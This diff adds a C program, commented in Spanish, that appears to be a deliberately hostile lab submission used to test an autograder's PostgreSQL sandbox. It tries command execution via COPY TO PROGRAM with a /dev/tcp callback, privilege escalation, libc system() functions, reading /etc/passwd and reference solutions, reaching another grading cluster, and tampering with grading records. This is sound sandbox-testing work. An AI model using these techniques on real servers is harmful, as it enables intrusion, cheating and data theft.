@@ -1,0 +1,168 @@
+/* bd_escapa.c — entrega hostil del laboratorio 12: con la cadena de conexión que le da el
+ * calificador, intenta salir de la caja a través del PostgreSQL de la calificación.
+ *
+ * Cada ataque que pueda ejecutar algo en el servidor deja una marca fuera de la caja
+ * (@MARCA@-<ataque> en /tmp del sistema: la caja tiene su propio /tmp); así la prueba
+ * (autograder/pruebas/prueba-autograder.sh) sabe cuáles llegaron a ejecutarse. Además:
+ *   - COPY … TO PROGRAM: un shell como el usuario del servidor, que abre una conexión con un
+ *     servidor de fuera (127.0.0.1:@PUERTO@, en la red de la máquina), copia un archivo de la
+ *     solución a /tmp y deja un proceso que, cuando el servidor ya paró, escribe
+ *     DIR/ubicacion apuntando a @VICTIMA@ (lo que «postgres.sh borrar», como root, borraba);
+ *   - escalar privilegios: ALTER ROLE … SUPERUSER, SET ROLE / SET SESSION AUTHORIZATION al
+ *     superusuario, GRANT pg_execute_server_program, CREATE ROLE;
+ *   - una función en lenguaje C (system de libc), lenguajes no confiables;
+ *   - leer y escribir archivos del servidor: pg_read_file, lo_import, lo_export, COPY FROM/TO
+ *     un archivo;
+ *   - llegar a otro clúster (el de otra calificación: @OTRO@) con dblink y directamente;
+ *   - escribir en las pruebas de cargo del calificador.
+ * Lo que consigue lo imprime como «LOGRADO <ataque>»; no hace el trabajo del laboratorio.
+ * Las rutas y marcas con @…@ las pone la prueba antes de compilar.
+ */
+#include "curso/bd.h"
+
+#include <libpq-fe.h>
+#include <stdio.h>
+#include <string.h>
+#include <uv.h>
+
+static PGconn *c;
+static char logrados[2048]; /* los ataques que el servidor aceptó, para el resumen */
+
+/* Cada intento, en stderr; los logrados, además, en el resumen final de stdout. */
+static void anotar(const char *ataque, int ok, const char *error)
+{
+    fprintf(stderr, "%s %s%s%s", ok ? "LOGRADO" : "RECHAZADO", ataque, ok ? "" : ": ",
+            ok ? "\n" : error);
+    if (ok && strlen(logrados) + strlen(ataque) + 2 < sizeof logrados) {
+        strcat(logrados, " ");
+        strcat(logrados, ataque);
+    }
+}
+
+/* Ejecuta `sql`; imprime si el servidor lo aceptó. 1 si lo aceptó. */
+static int intentar(const char *ataque, const char *sql)
+{
+    PGresult *r = PQexec(c, sql);
+    int ok = PQresultStatus(r) == PGRES_COMMAND_OK || PQresultStatus(r) == PGRES_TUPLES_OK;
+    anotar(ataque, ok, PQerrorMessage(c));
+    PQclear(r);
+    return ok;
+}
+
+/* Deja la marca del ataque fuera de la caja si el servidor ejecuta programas. */
+static void marca(const char *ataque)
+{
+    char sql[512];
+    snprintf(sql, sizeof sql, "COPY (SELECT 1) TO PROGRAM 'touch /tmp/@MARCA@-%s'", ataque);
+    intentar(ataque, sql);
+}
+
+/* Un segundo cliente hacia otra cadena: ¿se puede llegar? */
+static void conectar_a(const char *ataque, const char *cadena)
+{
+    PGconn *o = PQconnectdb(cadena);
+    anotar(ataque, PQstatus(o) == CONNECTION_OK, PQerrorMessage(o));
+    PQfinish(o);
+}
+
+/* Nunca se llama: solo para que el programa «use» lo que pide el laboratorio. */
+void nunca(bd_conexion_t *x);
+void nunca(bd_conexion_t *x)
+{
+    bd_consultar(x, "SELECT 1", 0, NULL, NULL, NULL);
+}
+
+int main(int argc, char **argv)
+{
+    uv_loop_t bucle;
+    uv_loop_init(&bucle);
+    uv_run(&bucle, UV_RUN_DEFAULT);
+    uv_loop_close(&bucle);
+    if (argc < 2)
+        return 2;
+    c = PQconnectdb(argv[argc - 1]);
+    if (PQstatus(c) != CONNECTION_OK) {
+        fprintf(stderr, "basedatos: %s", PQerrorMessage(c));
+        PQfinish(c);
+        return 2;
+    }
+    /* La carpeta del socket y la de los datos: donde estaba DIR/ubicacion. */
+    char dir[400] = "";
+    snprintf(dir, sizeof dir, "%s", PQhost(c));
+    char datos[400] = "";
+    PGresult *d = PQexec(c, "SHOW data_directory");
+    if (PQresultStatus(d) == PGRES_TUPLES_OK && PQntuples(d) == 1)
+        snprintf(datos, sizeof datos, "%s/..", PQgetvalue(d, 0, 0));
+    PQclear(d);
+    char sql[2048];
+    snprintf(sql, sizeof sql,
+             "COPY (SELECT 1) TO PROGRAM 'touch /tmp/@MARCA@-programa; "
+             "bash -c \"exec 3<>/dev/tcp/127.0.0.1/@PUERTO@\" 2>/dev/null; "
+             "cp @RAIZ@/solutions/12-base-de-datos/basedatos.c /tmp/@MARCA@-copia 2>/dev/null; "
+             "mkdir -p /tmp/curso-bd.@MARCA@; "
+             "nohup sh -c \"sleep 4; for d in %s %s; do echo /tmp/curso-bd.@MARCA@/../@VICTIMA@ > "
+             "\\$d/ubicacion; done\" >/dev/null 2>&1 &'",
+             dir, datos);
+    intentar("programa", sql);
+    marca("directo");
+
+    /* Escalar: cada intento va seguido de otra marca. */
+    if (intentar("superusuario", "ALTER ROLE CURRENT_USER SUPERUSER"))
+        marca("tras-superusuario");
+    PGresult *r = PQexec(c, "SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1");
+    char super[128] = "postgres";
+    if (PQresultStatus(r) == PGRES_TUPLES_OK && PQntuples(r) == 1)
+        snprintf(super, sizeof super, "%s", PQgetvalue(r, 0, 0));
+    PQclear(r);
+    snprintf(sql, sizeof sql, "SET ROLE \"%s\"", super);
+    if (intentar("set-role", sql)) {
+        marca("tras-set-role");
+        intentar("reset", "RESET ROLE");
+    }
+    snprintf(sql, sizeof sql, "SET SESSION AUTHORIZATION \"%s\"", super);
+    if (intentar("session-authorization", sql)) {
+        marca("tras-session-authorization");
+        intentar("reset", "RESET SESSION AUTHORIZATION");
+    }
+    if (intentar("grant", "GRANT pg_execute_server_program TO CURRENT_USER"))
+        marca("tras-grant");
+    intentar("crear-rol", "CREATE ROLE intruso SUPERUSER LOGIN PASSWORD 'x'");
+    intentar("crear-base", "CREATE DATABASE intrusa");
+    intentar("alter-system", "ALTER SYSTEM SET listen_addresses = '*'");
+
+    /* Funciones que ejecutan código del sistema. */
+    if (intentar("lenguaje-c", "CREATE FUNCTION sistema(cstring) RETURNS int AS 'libc.so.6', "
+                               "'system' LANGUAGE c STRICT"))
+        intentar("lenguaje-c-ejecuta", "SELECT sistema('touch /tmp/@MARCA@-lenguaje-c')");
+    intentar("plperlu", "CREATE EXTENSION IF NOT EXISTS plperlu");
+    intentar("plpython3u", "CREATE EXTENSION IF NOT EXISTS plpython3u");
+
+    /* Archivos del servidor. */
+    intentar("pg_read_file",
+             "SELECT pg_read_file('@RAIZ@/solutions/12-base-de-datos/basedatos.c')");
+    intentar("pg_ls_dir", "SELECT pg_ls_dir('/')");
+    intentar("lo_import", "SELECT lo_import('/etc/passwd')");
+    intentar("lo_export", "SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/@MARCA@-lo_export')");
+    intentar("copy-to-archivo", "COPY (SELECT 1) TO '/tmp/@MARCA@-copy-to'");
+    intentar("copy-from-archivo", "CREATE TEMP TABLE robo (x text); COPY robo FROM '/etc/passwd'");
+
+    /* Otro clúster: el de otra calificación que corre a la vez. */
+    if (intentar("dblink-extension", "CREATE EXTENSION IF NOT EXISTS dblink"))
+        intentar("dblink-conecta", "SELECT dblink_connect('host=127.0.0.1 port=@OTRO_PUERTO@ "
+                                   "user=curso dbname=curso')");
+    intentar("postgres_fdw", "CREATE EXTENSION IF NOT EXISTS postgres_fdw");
+    conectar_a("otro-tcp", "host=127.0.0.1 port=@OTRO_PUERTO@ user=curso dbname=curso "
+                           "connect_timeout=2");
+    conectar_a("otro-socket", "host=@OTRO_SOCKET@ port=@OTRO_PUERTO@ user=curso dbname=curso "
+                              "connect_timeout=2");
+
+    /* Las pruebas de cargo del calificador. */
+    intentar("evidencia-update", "UPDATE calif_registro SET pid = pid + 1");
+    intentar("evidencia-update-esquema", "UPDATE calif.registro SET pid = pid + 1");
+    intentar("evidencia-insert", "INSERT INTO calif.registro (id) VALUES (1)");
+    intentar("evidencia-texto", "DELETE FROM calif.texto");
+    PQfinish(c);
+    printf("ATAQUES LOGRADOS:%s\n", logrados[0] != '\0' ? logrados : " ninguno");
+    fflush(stdout);
+    return 0;
+}
